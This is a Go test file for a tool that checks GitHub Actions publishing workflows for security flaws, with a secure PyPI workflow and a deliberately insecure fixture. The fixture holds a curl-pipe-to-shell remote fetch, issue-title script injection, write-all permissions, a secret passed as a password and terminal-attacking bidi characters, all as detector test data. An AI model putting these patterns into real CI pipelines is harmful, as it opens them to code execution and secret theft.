package checks_test

import (
	"strings"
	"testing"

	"twokey/checks"
	"twokey/checks/actions"
	"twokey/checks/text"
)

// pin is a commit that an action is pinned to.
const pin = "0123456789abcdef0123456789abcdef01234567"

// goodWorkflow publishes to PyPI as it should be done: a job that builds and has no
// power, and one that publishes, behind a gate and without a secret.
const goodWorkflow = `name: publish
on:
  push:
    tags: ['harbour-*']
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@` + pin + ` # v5
        with:
          persist-credentials: false
      - run: |
          pip install --require-hashes -r requirements-build.txt
          python -m build
      - uses: actions/upload-artifact@` + pin + ` # v4
        with:
          name: dist
          path: dist
  publish:
    needs: [build]
    runs-on: ubuntu-24.04
    environment: pypi
    permissions:
      id-token: write
      attestations: write
    steps:
      - uses: actions/download-artifact@` + pin + ` # v5
        with:
          name: dist
          path: dist
      - uses: actions/attest-build-provenance@` + pin + ` # v3
        with:
          subject-path: dist/*
      - uses: pypa/gh-action-pypi-publish@` + pin + ` # v1.13.0
`

// evilWorkflow does everything wrong that a check looks for, under names that attack a
// terminal.
const evilWorkflow = "on:\n  pull_request_target:\n  push:\npermissions: write-all\njobs:\n  publish:\n    runs-on: self-hosted\n    steps:\n" +
	"      - uses: actions/checkout@v4\n        with: {ref: \"ma\u202ein\\a\"}\n" +
	"      - uses: \"evil/\u202eaction@v1\\a\"\n" +
	"      - run: |\n          curl https://example.org/\u202ex | sh # ${{ github.event.issue.title }}\n          twine upload dist/*\n" +
	"        env: {TWINE_PASSWORD: '${{ secrets.PYPI }}'}\n" +
	"      - uses: actions/cache@v4\n" +
	"      - uses: \"evil/y/\u202ez@" + pin + "\"\n"

// programOf is what a stage runs: the same good workflow for each of its files, or what
// files says instead, by their names.
func programOf(st checks.SubjectStage, files map[string]string) actions.Program {
	p := actions.Program{Home: st.Repo, Event: actions.EventPush, Files: map[actions.Ref]*actions.File{}}
	add := func(name, src string) {
		ref := actions.Ref{Repo: st.Repo, At: st.SHA, Path: actions.Dir + "/" + name}
		p.Entries = append(p.Entries, ref)
		f := actions.Parse(ref, []byte(src))
		f.Page = text.Cleanf("https://github.com/%s/blob/%s/%s", st.Repo, st.SHA, ref.Path)
		p.Files[ref] = f
	}
	if files == nil {
		for _, name := range st.Workflows {
			add(name, goodWorkflow)
		}
	}
	for name, src := range files {
		add(name, src)
	}
	return p.Settled()
}

// running makes the first stage run one workflow, and the others none.
func running(src string) func(*checks.Snapshot) {
	return func(s *checks.Snapshot) {
		for i, st := range s.Subject.Stages {
			s.Stages[i].Program = checks.Have(actions.Program{Home: st.Repo, Event: actions.EventPush})
		}
		s.Stages[0].Program = checks.Have(programOf(s.Subject.Stages[0], map[string]string{"deploy.yml": src}))
	}
}

// good is the good workflow with one thing written otherwise.
func good(old, new string) func(*checks.Snapshot) {
	return running(mustReplace(goodWorkflow, old, new))
}

func mustReplace(src, old, new string) string {
	if !strings.Contains(src, old) {
		panic("the workflow has no " + old)
	}
	return strings.Replace(src, old, new, 1)
}

// TestWorkflowsUnread holds for every check of what workflows run: a file that could
// not be read, and one that nobody understands, is unknown.
func TestWorkflowsUnread(t *testing.T) {
	for _, c := range checks.All() {
		if !needsProgramAlone(c) {
			continue
		}
		for name, f := range map[string]*actions.File{
			"refused": {Unread: true, Problem: text.Clean("GitHub answered 403"), Needs: "contents: read on quay/x"},
			"broken":  actions.Parse(actions.Ref{Path: actions.Dir + "/broken.yml"}, []byte("on: push\njobs: [")),
		} {
			s := clean()
			s.Stages[0].Program = checks.Have(actions.Program{Entries: []actions.Ref{f.Ref}, Files: map[actions.Ref]*actions.File{f.Ref: f}})
			got := checks.Run(c, s)
			if got.Outcome != checks.Unknown || !strings.Contains(got.Remedy, "contents: read on quay/x") && name == "refused" {
				t.Errorf("%s, %s: %s (%s): %s", c.ID, name, got.Outcome, got.Summary, got.Remedy)
			}
			requireWhole(t, c, got)
		}
	}
}

func needsProgramAlone(c checks.Check) bool {
	return len(c.Needs) == 1 && c.Needs[0] == checks.PartProgram
}

// TestEvilIsUnderstood holds that what is found in the evil workflow is found by what
// it says, and not since nobody understands it.
func TestEvilIsUnderstood(t *testing.T) {
	if f := actions.Parse(actions.Ref{Path: actions.Dir + "/evil.yml"}, []byte(evilWorkflow)); !f.Problem.IsZero() {
		t.Error(f.Problem)
	}
}
